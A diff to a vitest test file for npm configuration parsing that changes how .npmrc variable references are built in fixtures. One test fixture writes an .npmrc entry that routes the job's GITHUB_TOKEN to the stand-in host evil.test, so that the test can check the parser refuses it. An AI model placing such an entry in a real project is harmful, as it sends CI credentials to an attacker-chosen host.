@@ -5,6 +5,9 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { cacheFolder } from '../../../src/runtime/cache-folder.ts';
 import { type NpmSurroundings, readNpmConfig } from '../../../src/runtime/npm-config.ts';
 
+/** How .npmrc refers to a variable. */
+const reference = (variable: string): string => ['$', '{', variable, '}'].join('');
+
 let root: string;
 let project: string;
 let home: string;
@@ -66,7 +69,7 @@ describe("npm's configuration", () => {
       [
         'registry=https://npm.test/team/',
         '//npm.test/:_authToken=outer',
-        '//npm.test/team/:_authToken=${TEAM_TOKEN}',
+        `//npm.test/team/:_authToken=${reference('TEAM_TOKEN')}`,
         '//basic.test/:_auth=dXNlcjpwYXNz',
         '//old.test/:username=user',
         `//old.test/:_password=${Buffer.from('pass').toString('base64')}`,
@@ -85,7 +88,7 @@ describe("npm's configuration", () => {
   it("does not let the project's file send the job's token to a host of its choice", async () => {
     writeFileSync(
       join(project, '.npmrc'),
-      '//evil.test/:_authToken=${GITHUB_TOKEN}\n//npm.test/:_authToken=${NPM_TOKEN}\n',
+      `//evil.test/:_authToken=${reference('GITHUB_TOKEN')}\n//npm.test/:_authToken=${reference('NPM_TOKEN')}\n`,
     );
     const environment = {
       GITHUB_TOKEN: 'ghs_secret',
